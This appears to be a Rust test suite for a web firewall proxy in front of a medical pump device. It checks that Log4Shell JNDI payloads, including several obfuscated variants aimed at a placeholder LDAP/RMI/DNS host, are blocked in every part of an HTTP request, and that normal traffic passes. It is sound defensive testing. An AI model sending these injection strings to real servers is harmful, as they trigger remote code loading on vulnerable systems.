//! Log4Shell in every place of a request, and ordinary traffic, through the proxy.

use std::io::Write as _;

use flate2::Compression;
use flate2::write::GzEncoder;

use crate::core_rule_set;
use crate::device::Device;
use crate::stage::{Script, Stage};

const SHAPES: &[&str] = &[
    "${jndi:ldap://198.51.100.7/a}",
    "${JNDI:rmi://198.51.100.7/a}",
    "${${lower:j}ndi:ldap://198.51.100.7/a}",
    "${${::-j}${::-n}${::-d}${::-i}:ldap://198.51.100.7/a}",
    "${${env:X:-j}ndi:dns://198.51.100.7/a}",
];

fn percent(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// `(name, request line, headers, body)` of every place that an attack is put in.
fn places(attack: &str) -> Vec<(String, String, String, Vec<u8>)> {
    let mut places = Vec::new();
    let mut add = |name: &str, line: &str, headers: String, body: Vec<u8>| {
        places.push((format!("{name}: {attack}"), line.to_owned(), headers, body));
    };
    for header in [
        "X-Api-Version",
        "Referer",
        "X-Forwarded-Host",
        "Cookie",
        "Authorization",
        "Accept-Language",
        "X-Request-Id",
    ] {
        let value = if header == "Cookie" { format!("session={attack}") } else { attack.to_owned() };
        add(header, "GET /", format!("{header}: {value}\r\n"), Vec::new());
    }
    add("path", &format!("GET /{}", percent(attack)), String::new(), Vec::new());
    add("query", &format!("GET /?q={attack}"), String::new(), Vec::new());
    add("escaped query", &format!("GET /?q={}", percent(attack)), String::new(), Vec::new());
    add("name of a parameter", &format!("GET /?{}=1", percent(attack)), String::new(), Vec::new());
    let form = "Content-Type: application/x-www-form-urlencoded\r\n".to_owned();
    add("form", "POST /login", form, format!("user={}&pass=x", percent(attack)).into_bytes());
    let json = "Content-Type: application/json\r\n".to_owned();
    add("JSON", "POST /api", json.clone(), format!("{{\"user\":{{\"name\":\"{attack}\"}}}}").into_bytes());
    let escaped: String = attack.chars().map(|sign| format!("\\u{:04x}", u32::from(sign))).collect();
    add("escaped JSON", "POST /api", json.clone(), format!("{{\"name\":\"{escaped}\"}}").into_bytes());
    add(
        "packed JSON",
        "POST /api",
        format!("{json}Content-Encoding: gzip\r\n"),
        gzip(format!("{{\"name\":\"{attack}\"}}").as_bytes()),
    );
    let multipart = "Content-Type: multipart/form-data; boundary=XbX\r\n".to_owned();
    let part = |disposition: &str, text: &str| {
        format!("--XbX\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{text}\r\n--XbX--\r\n")
            .into_bytes()
    };
    add("multipart", "POST /upload", multipart, part("name=\"note\"", attack));
    let xml = "Content-Type: application/xml\r\n".to_owned();
    add("XML", "POST /hl7", xml, format!("<?xml version=\"1.0\"?><a><b>{attack}</b></a>").into_bytes());
    places
}

fn all_are_stopped(script: &Script) {
    let Some(stage) = Stage::set(Device::plain(), script) else { return };
    let mut through = Vec::new();
    for attack in SHAPES {
        for (name, line, headers, body) in places(attack) {
            let status = stage.status(&line, &headers, &body);
            if status != 403 {
                through.push(format!("{name} {status}"));
            }
        }
    }
    assert!(through.is_empty(), "{through:#?}");
    assert_eq!(stage.device.received(), Vec::<Vec<u8>>::new(), "not a byte");
    let events = stage.events(SHAPES.len() * places("").len());
    assert!(events.iter().all(|it| it["transaction"]["is_interrupted"] == true));
    let text = serde_json::to_string(&events).unwrap();
    assert!(!text.contains("198.51.100.7"), "values stay in the judge: {text}");
}

#[test]
fn log4shell_is_stopped_by_rules_of_ones_own() {
    all_are_stopped(&Script::default());
}

#[test]
fn log4shell_is_stopped_by_the_core_rule_set() {
    let Some(rules) = core_rule_set("v4.28.0") else { return };
    all_are_stopped(&Script { rules: vec![rules], ..Script::default() });
}

#[test]
fn ordinary_traffic_passes_the_core_rule_set() {
    let Some(rules) = core_rule_set("v4.28.0") else { return };
    let script = Script { rules: vec![rules], ..Script::default() };
    let Some(stage) = Stage::set(Device::plain(), &script) else { return };
    let form = "Content-Type: application/x-www-form-urlencoded\r\n";
    let json = "Content-Type: application/json\r\n";
    let rows: &[(&str, &str, &[u8])] = &[
        ("GET /", "", b""),
        ("GET /status?page=2&sort=name", "", b""),
        ("GET /static/app.js", "Referer: http://pump.example/\r\n", b""),
        ("POST /login", form, b"user=nurse&pass=correct-horse-7"),
        ("POST /settings", form, b"rate=12.5&unit=ml%2Fh&ward=3+North"),
        ("POST /api/status", json, br#"{"pump":12,"rate":12.5,"alarms":[]}"#),
        ("GET /", "Cookie: session=0123456789abcdef\r\n", b""),
    ];
    for (line, headers, body) in rows {
        assert_eq!(stage.status(line, headers, body), 200, "{line}");
    }
    assert_eq!(stage.device.received().len(), rows.len());
}

/// In detect everything reaches the device, and what would have been stopped is told.
#[test]
fn detect_forwards_and_tells() {
    let script = Script { site: "    mode: detect\n", ..Script::default() };
    let Some(stage) = Stage::set(Device::plain(), &script) else { return };
    assert_eq!(stage.status("GET /a?q=${jndi:ldap://x/a}", "Cookie: secret=1\r\n", b""), 200);
    assert_eq!(stage.status("GET /b", "", b""), 200);
    let events = stage.events(1);
    assert_eq!(events.len(), 1, "a plain pass is no event");
    let transaction = &events[0]["transaction"];
    assert_eq!(transaction["is_interrupted"], false);
    assert_eq!(transaction["producer"]["secrules_engine"], "DetectionOnly");
    assert_eq!(transaction["bedrail"]["outcome"], "would-block");
    assert_eq!(transaction["request"]["uri"], "/a");
    assert_eq!(transaction["host_port"], stage.device.address.port());
    assert!(!events[0].to_string().contains("secret"));
    let site = &stage.status_now()["sites"][0];
    assert_eq!((site["requests"].as_u64(), site["would_block"].as_u64()), (Some(2), Some(1)));
}

/// Two sites, one compiled rule set: what one excludes, the other has.
#[test]
fn a_site_has_its_own_exclusions() {
    let Some(stage) = Stage::plain() else { return };
    let request = |host: &str| {
        let text = format!(
            "GET /?q=${{jndi:x}} HTTP/1.1\r\nHost: {host}\r\nX-Bedrail-Site: quiet\r\nbedrail_site: quiet\r\nConnection: close\r\n\r\n"
        );
        crate::stage::status_of(&stage.send(text.as_bytes()))
    };
    assert_eq!((request("pump.example"), request("quiet.example")), (403, 200));
}
